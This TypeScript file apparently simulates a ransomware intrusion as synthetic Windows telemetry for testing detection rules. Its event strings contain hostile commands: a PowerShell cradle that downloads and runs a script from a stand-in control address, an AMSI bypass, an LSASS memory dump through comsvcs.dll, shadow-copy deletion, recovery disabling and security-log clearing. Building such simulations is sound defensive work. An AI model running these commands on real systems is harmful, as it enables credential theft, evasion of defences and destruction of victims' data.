/**
 * Ransomware: a macro on a workstation, a dumped password, the file server by PsExec, recovery destroyed, notes in every folder. Both
 * machines then fall silent, because they were isolated.
 */

import { hourMs, minuteMs } from '@parapet/contract/rules/duration.ts';
import {
  dnsQuery,
  fileCreate,
  networkConnect,
  newProcess,
  processAccess,
  processCreate,
  registrySet,
  system32,
  systemUser,
} from '../events/sysmon.ts';
import { logon, scriptBlock, serviceInstalled } from '../events/windows.ts';
import { encoded } from '../everyday/programs.ts';
import { devicesWith } from '../fleet.ts';
import { peopleAt } from '../people.ts';
import { type AddEvents, createStoryBuilder, type Stage, type Story } from './story.ts';

const powershell = `${system32}WindowsPowerShell\\v1.0\\powershell.exe`;
const cmd = `${system32}cmd.exe`;
const controlAddress = '203.0.113.66';
const shares = ['Accounting', 'Contracts', 'Drawings', 'Payroll', 'Personnel', 'Quality', 'Sales', 'Tooling'] as const;
const isolatedAfterMinutes = 52;

type Cast = ReturnType<typeof cast>;

function cast({ site, random }: Stage) {
  const workstation = random.pick(
    devicesWith(site.organisationId, 'workstation').filter((device) => device.silentForDays === undefined),
  );
  const server = devicesWith(site.organisationId, 'fileServer')[0]!;
  return { workstation, server, victim: workstation.owner!, administrator: peopleAt(site.organisationId)[0]! };
}

export const ransomware: Story = {
  name: 'ransomware',
  title: 'Ransomware stopped by isolation',
  ending: 'isolated',
  techniques: [
    'T1204.002',
    'T1059.001',
    'T1562.001',
    'T1069.002',
    'T1003.001',
    'T1569.002',
    'T1489',
    'T1490',
    'T1070.001',
    'T1486',
  ],
  keyRules: [
    'windows/office-starts-interpreter',
    'windows/powershell-download-cradle',
    'windows/lsass-memory-dumped',
    'windows/psexec-service-child',
    'windows/shadow-copies-deleted',
    'windows/ransom-notes-in-many-folders',
  ],
  silences(stage) {
    const { workstation, server } = cast(stage);
    const from = stage.start + isolatedAfterMinutes * minuteMs;
    return [workstation, server].map((device) => ({ device, from, until: from + 9 * hourMs }));
  },
  build(stage) {
    const actors = cast(stage);
    const builder = createStoryBuilder(stage);
    compromise(stage, actors, builder.on(actors.workstation, actors.victim));
    encrypt(stage, actors, builder.on(actors.server, actors.administrator));
    return builder.events;
  },
};

/** From the macro to the dumped password, on the workstation. */
function compromise({ random, site }: Stage, { victim }: Cast, add: AddEvents): void {
  const office = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
  const home = `C:\\Users\\${victim.account}`;
  const dropped = `${home}\\AppData\\Roaming\\wupd\\wupd.exe`;
  const host = 'cdn.paymentportal.example';
  const word = newProcess(random, office, `"${office}" /n "${home}\\Downloads\\Remittance_advice.docm"`);
  const cradle = `powershell.exe -NoP -W Hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://${controlAddress}/u.ps1')"`;
  const loader = newProcess(random, powershell, cradle);
  add(0, (scene) => processCreate(scene, { ...word, self: word }));
  add(0.6, (scene) => processCreate(scene, { image: cmd, commandLine: `cmd.exe /c ${cradle}`, parent: word }));
  add(0.7, (scene) => processCreate(scene, { ...loader, self: loader, parent: word }));
  add(0.8, (scene) => dnsQuery(scene, { process: loader, name: host, answer: controlAddress }));
  add(0.9, (scene) => networkConnect(scene, { process: loader, to: controlAddress, port: 80, host }));
  add(1.1, (scene) =>
    scriptBlock(
      scene,
      "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
    ),
  );
  add(2, (scene) => fileCreate(scene, { process: loader, file: dropped }));
  const key = `HKU\\${victim.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\wupd`;
  add(2.2, (scene) => registrySet(scene, { process: loader, key, value: dropped }));
  const discovery = ['whoami /all', 'net group "Domain Admins" /domain', `nltest /dclist:${site.windowsDomain}`, 'ipconfig /all'];
  discovery.forEach((commandLine, index) => {
    const image = `${system32}${commandLine.split(' ')[0]}.exe`;
    add(6 + index * 0.4, (scene) => processCreate(scene, { image, commandLine, parent: loader }));
  });
  add(14, (scene) =>
    processCreate(scene, {
      image: `${system32}rundll32.exe`,
      commandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\d.tmp full',
      parent: loader,
      integrity: 'High',
    }),
  );
  add(14.1, (scene) => processAccess(scene, { image: dropped, target: `${system32}lsass.exe`, access: '0x1fffff' }));
  for (let beacon = 0; beacon < 5; beacon++)
    add(18 + beacon * 5 + random.next(), (scene) => networkConnect(scene, { image: dropped, to: controlAddress, port: 443 }));
}

/** From the remote service to the notes in every folder, on the file server. */
function encrypt({ random }: Stage, { workstation }: Cast, add: AddEvents): void {
  add(40, (scene) => logon(scene, { type: 3, from: workstation.ip, authentication: 'NTLM', workstation: workstation.name }));
  add(40.1, (scene) => serviceInstalled(scene, { name: 'PSEXESVC', path: '%SystemRoot%\\PSEXESVC.exe' }));
  const shell = newProcess(random, cmd, '"cmd.exe" /c C:\\ProgramData\\run.bat');
  add(40.4, (scene) =>
    processCreate(scene, { ...shell, self: shell, parentImage: 'C:\\Windows\\PSEXESVC.exe', user: systemUser }),
  );
  const destruction = [
    'net.exe stop "veeam backup service" /y',
    'vssadmin.exe delete shadows /all /quiet',
    'bcdedit.exe /set {default} recoveryenabled no',
    'wevtutil.exe cl Security',
  ];
  destruction.forEach((commandLine, index) => {
    const image = `${system32}${commandLine.split(' ')[0]}`;
    add(44 + index * 0.5, (scene) => processCreate(scene, { image, commandLine, parent: shell, user: systemUser }));
  });
  add(46.5, (scene) =>
    processCreate(scene, {
      image: powershell,
      commandLine: `powershell.exe -w hidden -enc ${encoded('Get-ChildItem D:\\Departments -Recurse | ForEach-Object { & C:\\ProgramData\\lock.exe $_.FullName }')}`,
      parent: shell,
      user: systemUser,
    }),
  );
  const locker = newProcess(random, 'C:\\ProgramData\\lock.exe', 'lock.exe -path D:\\Departments -threads 8');
  const common = { process: locker, user: systemUser };
  shares.forEach((share, index) => {
    const folder = `D:\\Departments\\${share}`;
    add(47 + index * 0.2, (scene) => [
      fileCreate(scene, { ...common, file: `${folder}\\Plan ${random.int(2019, 2026)}.xlsx.locked` }),
      fileCreate({ ...scene, at: scene.at + 900 }, { ...common, file: `${folder}\\HOW_TO_RESTORE_FILES.txt` }),
    ]);
  });
}
